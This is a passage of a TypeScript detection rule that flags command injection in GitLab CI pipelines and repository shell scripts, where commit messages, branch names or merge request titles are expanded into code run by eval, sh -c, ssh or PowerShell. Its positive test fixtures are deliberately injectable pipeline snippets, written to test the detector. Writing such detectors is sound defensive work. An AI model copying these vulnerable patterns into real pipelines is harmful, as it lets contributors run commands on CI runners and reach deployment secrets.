before_script or script sets from one (`export MSG="$CI_COMMIT_MESSAGE"`) before a later line runs it (`eval "$MSG"`). So does what a git command prints of the commits, set into a variable (`MSG=$(git log -1 --pretty=%B)`, `` AUTHOR=`git show -s --format=%an` ``) or substituted straight into the code (`eval "notify $(git log -1 --format=%s)"`: the job\'s shell runs git, and eval parses its output): the message (%s, %b, %B, --oneline and the named formats), the author\'s and committer\'s names and emails (%an, %ae, %cn, %ce), the branch and tag names decorating a commit (%d, %D); not hashes, dates or %f. The name of the branch checked out (`git rev-parse --abbrev-ref HEAD`, `git branch --show-current`) counts once the job checks out a branch under a name a contributor wrote (`git checkout -B "$CI_COMMIT_REF_NAME"`): GitLab checks out the commit with HEAD detached, where git prints `HEAD`. The tag name and message (CI_COMMIT_TAG, CI_COMMIT_TAG_MESSAGE), which only members allowed to push tags write, are reported as medium, and so is the profile name of the user who started the pipeline (GITLAB_USER_NAME: free text that user chooses, a member who can run pipelines); their username (GITLAB_USER_LOGIN) takes only letters, digits and `_.-` and is not reported. The commit\'s author (CI_COMMIT_AUTHOR, `Name <email>` as git records it) is whatever the commit says. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. Nor is a branch or tag name that the conditions a job runs under fix to one the pipeline names: rules (the job\'s, or the workflow\'s) whose every entry that lets it run compares it (`if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH`, `if: $CI_COMMIT_TAG =~ /^v\\d+\\.\\d+\\.\\d+$/`, a pattern anchored at both ends (`^...$`, or RE2\'s `\\A...\\z`) that takes only letters, digits and `._/+-`), or `only:` refs that name branches so (`only: [main]`); such a branch pipeline has no merge request text either. A template\'s script counts as fixed only when every job of the file that runs it is. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
  remediation: 'Do not build shell code from these variables: run the command directly with the variable quoted (`deploy --branch "$CI_COMMIT_BRANCH"`), or pass it to the inner shell as an argument (`sh -c \'deploy --branch "$1"\' sh "$CI_COMMIT_BRANCH"`); use CI_COMMIT_REF_SLUG where a name must be safe.',
  severity: 'high',
  cwe: ['CWE-78', 'CWE-94'],
  examples: {
    positive: [
      pipeline('deploy:\n  # expect\n  script:\n    - ./build.sh\n    # detail\n    - eval "deploy --branch $CI_COMMIT_BRANCH"\n'),
      pipeline('notify:\n  # expect\n  script:\n    # detail\n    - docker exec app sh -c "notify \\"${CI_MERGE_REQUEST_TITLE}\\""\n'),
      pipeline('deploy:\n  # expect\n  script:\n    # detail\n    - ssh -i deploy.key -p 2222 deploy@app.example.org "cd /srv/app && ./deploy.sh $CI_COMMIT_REF_NAME"\n'),
      pipeline('release:\n  # expect\n  script:\n    # detail\n    - eval "publish --version $CI_COMMIT_TAG"\n'),
      // Through a variable of the file that GitLab expands when it creates the job.
      pipeline('variables:\n  BRANCH: $CI_COMMIT_BRANCH\ndeploy:\n  # expect\n  script:\n    # detail\n    - eval "deploy --branch $BRANCH"\n'),
      pipeline("release:\n  # expect\n  script:\n    # detail\n    - bash -ec 'git tag v1 -m '\"$CI_COMMIT_MESSAGE\"\n"),
      // Through a shell variable an earlier line of the job sets.
      pipeline('notify:\n  before_script:\n    - export TITLE="$CI_MERGE_REQUEST_TITLE"\n  # expect\n  script:\n    # detail\n    - sh -c "notify $TITLE"\n'),
      // The body of a here-document a shell runs, expanded by the job's shell first.
      pipeline('deploy:\n  # expect\n  script:\n    - |\n      bash <<EOF\n      set -e\n      # detail\n      git tag -a v1 -m "$CI_COMMIT_TITLE"\n      EOF\n'),
      pipeline('deploy:\n  # expect\n  script:\n    # detail\n    - sshpass -e ssh deploy@app.example.org "./deploy.sh $CI_COMMIT_REF_NAME"\n'),
      pipeline('deploy:\n  tags: [windows]\n  # expect\n  script:\n    # detail\n    - cmd /c "notify %CI_COMMIT_MESSAGE%"\n'),
      pipeline('deploy:\n  tags: [windows]\n  # expect\n  script:\n    # detail\n    - Invoke-Expression "notify $env:CI_MERGE_REQUEST_TITLE"\n'),
      // GitLab's runner sets each variable as a variable of the PowerShell script too.
      pipeline('deploy:\n  tags: [windows]\n  # expect\n  script:\n    # detail\n    - iex "notify --title $CI_MERGE_REQUEST_TITLE"\n'),
      // PowerShell expands the title into the script it hands to bash.
      pipeline('test:msys2:\n  tags: [win32-ps]\n  # expect\n  script:\n    # detail\n    - C:\\msys64\\usr\\bin\\bash -lc "notify --title \'$CI_COMMIT_TITLE\'"\n'),
      // The profile name of whoever started the pipeline (medium), and the commit's author.
      pipeline('announce:\n  # expect\n  script:\n    # detail\n    - eval "notify --by \'$GITLAB_USER_NAME\'"\n    # detail\n    - ssh deploy@app.example.org ./record.sh "$CI_COMMIT_AUTHOR"\n'),
      // What git prints of the commit, set into a variable or substituted straight into the code.
      pipeline('notify:\n  # expect\n  script:\n    - MSG=$(git log -1 --pretty=%B)\n    # detail\n    - eval "notify $MSG"\n'),
      pipeline('notify:\n  # expect\n  script:\n    # detail\n    - sh -c "notify --author $(git show -s --format=%an)"\n'),
    ],
    negative: [
      pipeline(
        "deploy:\n  script:\n    - echo \"Deploying $CI_COMMIT_BRANCH: $CI_COMMIT_MESSAGE\"\n    - deploy --branch \"$CI_COMMIT_BRANCH\"\n    - sh -c 'deploy --branch \"$1\"' sh \"$CI_COMMIT_BRANCH\"\n    - sh -c \"echo \\$CI_MERGE_REQUEST_TITLE\"\n    - eval \"$(ssh-agent -s)\"\n    - eval \"export TAG=$CI_COMMIT_REF_SLUG\"\n    - bash -c \"make deploy ENV=$DEPLOY_ENV\"\n    - grep -c $CI_COMMIT_BRANCH branches.txt\n    - ssh deploy@app.example.org ./deploy.sh \"$CI_COMMIT_SHA\"\n    - scp -P 2222 notes-$CI_COMMIT_REF_NAME.txt deploy@app.example.org:/srv/notes/\n",
      ),
      pipeline(
        "variables:\n  RAW_BRANCH:\n    value: $CI_COMMIT_BRANCH\n    expand: false\n  SLUG: $CI_COMMIT_REF_SLUG\ndeploy:\n  script:\n    - eval \"deploy --slug $SLUG --raw $RAW_BRANCH\"\n",
      ),
      // A variable set from the text but printed, one set again before it runs, a quoted here-document, one written to a file.
      pipeline(
        "deploy:\n  script:\n    - export MSG=\"$CI_COMMIT_MESSAGE\"\n    - echo \"$MSG\"\n    - TITLE=\"$CI_MERGE_REQUEST_TITLE\"\n    - TITLE=release\n    - eval \"notify $TITLE\"\n    - |\n      bash <<'EOF'\n      echo \"$CI_COMMIT_TITLE\"\n      EOF\n    - |\n      cat <<EOF > notes.txt\n      $CI_COMMIT_MESSAGE\n      EOF\n",
      ),
      // Windows: printed, or single-quoted for PowerShell, which then reads the variable as data.
      // git's output printed, a hash, the branch of a detached HEAD (GitLab's checkout), a substitution the inner shell runs.
      pipeline(
        "notify:\n  script:\n    - echo \"$(git log -1 --pretty=%B)\"\n    - HASH=$(git log -1 --pretty=%H)\n    - eval \"deploy $HASH\"\n    - BRANCH=$(git rev-parse --abbrev-ref HEAD)\n    - eval \"deploy $BRANCH\"\n    - sh -c 'notify \"$(git log -1 --format=%s)\"'\n",
      ),
      // The job runs only on the default branch: its name is the project's, not a contributor's.
      pipeline('deploy:\n  rules:\n    - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH\n  script:\n    - ssh deploy@app.example.org "./deploy.sh $CI_COMMIT_BRANCH"\n'),
      // The username takes only letters, digits and `_.-`; the profile name, passed as data.
      pipeline('announce:\n  script:\n    - sh -c "notify --by $GITLAB_USER_LOGIN"\n    - notify --by "$GITLAB_USER_NAME"\n'),
      pipeline("deploy:\n  tags: [windows]\n  script:\n    - echo %CI_COMMIT_MESSAGE%\n    - Write-Output $env:CI_COMMIT_MESSAGE\n    - Invoke-Expression 'notify $env:CI_MERGE_REQUEST_TITLE'\n    - cmd /c \"notify --slug %CI_COMMIT_REF_SLUG%\"\n"),
      // Left to bash, which expands it as data.
      pipeline("test:msys2:\n  tags: [win32-ps]\n  script:\n    - C:\\msys64\\usr\\bin\\bash -lc 'notify --title \"$CI_COMMIT_TITLE\"'\n    - bash -lc \"notify --title `\"`$CI_COMMIT_TITLE`\"\"\n"),
    ],
  },
  *check(p) {
    const carried = carriers(p);
    // What a line of a job's before_script and script sets, the next lines see (one shell); after_script runs in a shell of its own.
    const shells = new Map<string, Map<string, Written>>();
    const fixedFor = new Map<string, Set<string>>();
    for (const entry of pipelineScripts(p)) {
      const { owner, scalar, text: script, keyLine, key } = entry;
      const shell = `${owner}\0${key === 'after_script' ? key : 'script'}`;
      if (!shells.has(shell)) shells.set(shell, new Map(carried));
      // Read only for a script that has a finding: most have none.
      const fixed = () => fixedFor.get(owner) ?? fixedFor.set(owner, ownerFixes(p, owner)).get(owner)!;
      const found = scriptDialect(p, entry) === 'powershell' ? powerShellInjections(script, shells.get(shell)) : injections(script, shells.get(shell));
      for (const { offset, expansion, source, sink } of found) {
        // The conditions the job runs under fix the text (`if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH`): no contributor writes it.
        if (source.what.startsWith('$') && fixed().has(source.what.slice(1))) continue;
        const at = inside(keyLine, lineOf(p, scalar, offset));
        yield { ...at, message: `${owner} expands ${expansion}${via(expansion, source)} into the code ${sink} runs${detailNote(at)}: whoever writes ${source.by} can run commands ${where(sink)}.`, resource: owner, ...severityOf(source) };
      }
    }
  },
  scripts: {
    problem: 'ci-text-run-as-code',
    examples: {
      positive: [
        '#!/bin/sh\nset -eu\n# expect\neval "notify --title $CI_MERGE_REQUEST_TITLE"\n',
        '#!/bin/sh\nmsg="$CI_COMMIT_MESSAGE"\n# expect\nsh -c "notify $msg"\nssh deploy@app.example.org <<EOF\n# expect\n./deploy.sh $CI_COMMIT_BRANCH\nEOF\n',
        '#!/bin/sh\ntitle=$(git log -1 --format=%s)\n# expect\neval "notify $title"\n',
      ],
      negative: ['#!/bin/sh\nnotify --title "$CI_MERGE_REQUEST_TITLE"\nsh -c \'notify --title "$CI_MERGE_REQUEST_TITLE"\'\nssh deploy@app.example.org <<\'EOF\'\n./deploy.sh "$CI_COMMIT_BRANCH"\nEOF\n'],
    },
    *check(script) {
      for (const { offset, expansion, source, sink } of injections(script.text)) {
        if (source.what.startsWith('$') && script.fixed?.has(source.what.slice(1))) continue;
        yield { line: lineAtOffset(script.text, offset), message: `${expansion}${via(expansion, source)} is expanded into the code ${sink} runs${inScript(script)}: whoever writes ${source.by} can run commands ${where(sink)}.`, key: `${offset}\0${expansion}`, ...severityOf(source) };
      }
    },
  },
});

export const injectionRules = [scriptInjection];
